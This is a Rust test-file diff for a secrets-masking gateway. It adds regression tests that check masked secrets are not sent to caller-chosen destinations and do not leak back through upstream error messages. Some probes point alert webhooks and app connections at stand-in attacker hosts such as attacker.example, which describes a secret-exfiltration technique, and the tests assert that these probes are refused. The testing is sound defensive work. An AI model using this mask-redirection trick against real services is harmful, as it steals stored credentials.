@@ -15,7 +15,7 @@ use om_secrets_proxy::secrets::memory::MemoryStore;
 use om_secrets_proxy::secrets::SecretStore;
 use proptest::prelude::*;
 use serde_json::{json, Value};
-use support::emulator::Recorded;
+use support::emulator::{Canned, Recorded};
 use support::jwt;
 use support::*;
 
@@ -351,6 +351,9 @@ async fn smtp_and_slack_settings_are_masked_and_survive_a_mask_round_trip() {
         &last_forwarded(&emu, Method::PUT, SETTINGS),
         &["SMTP-pw-41"],
     );
+    // A mask is kept only while the rest of its setting is unchanged (second hostile probe:
+    // otherwise a person could send the value to an account or host of their choosing).
+    let before = writes_so_far(&emu);
     let a = write(
         &gw,
         Method::PATCH,
@@ -358,6 +361,17 @@ async fn smtp_and_slack_settings_are_masked_and_survive_a_mask_round_trip() {
         json!([
         {"op": "replace", "path": "/signingSecret", "value": MASK},
         {"op": "replace", "path": "/clientId", "value": "cid-2"}]),
+    )
+    .await;
+    refused_422(&emu, &a, before).await;
+    assert!(a.text().contains("clientId"), "{}", a.text());
+    let a = write(
+        &gw,
+        Method::PATCH,
+        &format!("{SETTINGS}/slackAppConfiguration"),
+        json!([
+        {"op": "replace", "path": "/signingSecret", "value": MASK},
+        {"op": "replace", "path": "/clientSecret", "value": "SLC-sec-2"}]),
     )
     .await;
     assert_eq!(a.status, 200, "{}", a.text());
@@ -373,7 +387,7 @@ async fn smtp_and_slack_settings_are_masked_and_survive_a_mask_round_trip() {
     );
     let slack_held = emu.setting("slackAppConfiguration").expect("slack");
     assert_eq!(slack_held["signingSecret"], "SLS-sign-3");
-    assert_eq!(slack_held["clientId"], "cid-2");
+    assert_eq!(slack_held["clientId"], "cid");
     // `config_value.password` is a secret of any setting; Slack's holds none.
     let before = writes_so_far(&emu);
     let a = write(
@@ -901,6 +915,17 @@ async fn a_merge_patch_that_sends_a_mask_back_keeps_the_value() {
         json!({"password": MASK, "username": "mailer-2"}).to_string(),
     )
     .await;
+    // Another account with the kept password: refused (the value would go where the caller
+    // says: any other member of the setting changed with a mask is); the mask alone: kept.
+    assert_eq!(a.status, 422, "{}", a.text());
+    let a = send(
+        &client(),
+        Method::PATCH,
+        &gw.url(&format!("{SETTINGS}/emailConfiguration")),
+        &[("content-type", "application/merge-patch+json")],
+        json!({"password": MASK, "senderMail": "om@example.org"}).to_string(),
+    )
+    .await;
     assert_eq!(a.status, 200, "{}", a.text());
     let r = last_forwarded(&emu, Method::PATCH, SETTINGS);
     assert!(
@@ -910,5 +935,98 @@ async fn a_merge_patch_that_sends_a_mask_back_keeps_the_value() {
     );
     let held = emu.setting("emailConfiguration").expect("email");
     assert_eq!(held["password"], "SMTP-pw-41");
-    assert_eq!(held["username"], "mailer-2");
+    assert_eq!(held["username"], "mailer");
+}
+
+/// Second hostile probe (after issue 16): a person who sees only masks sent an existing
+/// alert's destination, its key filled in by the gateway, to a webhook of their own
+/// (`testDestination` names the alert), and an app's password to a host of their own (a
+/// trigger); and an upstream error quoting the forwarded body handed the filled-in values back
+/// in its text. A mask is now kept only where everything around it (the destination, the
+/// app's configuration) is what the upstream holds, and the values the gateway filled in are
+/// scrubbed from the answer wherever they stand.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_mask_is_kept_only_where_it_goes_unchanged_and_never_comes_back_in_text() {
+    let (emu, gw, _mem) = setup(|_| {}).await;
+    assert_eq!(
+        write(&gw, Method::POST, SUBS, subscription()).await.status,
+        201
+    );
+    let test = format!("{SUBS}/testDestination");
+    let held = subscription()["destinations"][0].clone();
+    let probe = |endpoint: &str| {
+        let mut d = held.clone();
+        d["config"]["endpoint"] = json!(endpoint);
+        d["config"]["secretKey"] = json!(MASK);
+        d["config"]["headers"]["Authorization"] = json!(MASK);
+        json!({"name": "hook", "destinations": [d]})
+    };
+    // To a webhook of the caller's choosing (the endpoint is itself a secret field): refused.
+    let before = writes_so_far(&emu);
+    let a = write(
+        &gw,
+        Method::POST,
+        &test,
+        probe("https://attacker.example/collect"),
+    )
+    .await;
+    refused_422(&emu, &a, before).await;
+    assert!(a.text().contains("endpoint"), "{}", a.text());
+    // Where it already goes: the values are filled in (the emulator has no such route and
+    // answers 404, after recording what it received).
+    let a = write(
+        &gw,
+        Method::POST,
+        &test,
+        probe("https://hooks.example.org/in?token=EP-9f1"),
+    )
+    .await;
+    assert_ne!(a.status, 422, "{}", a.text());
+    let r = last_forwarded(&emu, Method::POST, &test);
+    forwarded_values_not_masks(&r, &["SK-hmac-77", "HDR-55a"]);
+    // An upstream error quoting what it received: the caller sees neither value in it.
+    emu.set_canned(
+        &test,
+        Canned {
+            status: 400,
+            ..Canned::json(
+                json!({"code": 400, "message": "cannot reach destination: {\"secretKey\":\"SK-hmac-77\",\"headers\":{\"Authorization\":\"Bearer HDR-55a\"}} SK-hmac-77"})
+                    .to_string(),
+            )
+        },
+    );
+    let a = write(
+        &gw,
+        Method::POST,
+        &test,
+        probe("https://hooks.example.org/in?token=EP-9f1"),
+    )
+    .await;
+    assert_eq!(a.status, 400, "{}", a.text());
+    for v in ["SK-hmac-77", "HDR-55a"] {
+        assert!(!a.text().contains(v), "{v} came back: {}", a.text());
+    }
+    assert!(
+        a.text().contains("cannot reach destination"),
+        "{}",
+        a.text()
+    );
+    emu.clear_canned();
+
+    // An app run against a host of the caller's choosing with the app's password: refused.
+    let snow = json!({"name": "SnowflakeSync", "appConfiguration": {"type": "Snowflake",
+        "connectionConfig": {"username": "om", "hostPort": "db.example.org:443",
+                             "password": "APP-pw-1"}}});
+    assert_eq!(write(&gw, Method::POST, APPS, snow).await.status, 201);
+    let before = writes_so_far(&emu);
+    let a = write(
+        &gw,
+        Method::POST,
+        &format!("{APPS}/trigger/SnowflakeSync"),
+        json!({"type": "Snowflake", "connectionConfig": {"username": "om",
+               "hostPort": "attacker.example:443", "password": MASK}}),
+    )
+    .await;
+    refused_422(&emu, &a, before).await;
+    assert!(a.text().contains("hostPort"), "{}", a.text());
 }
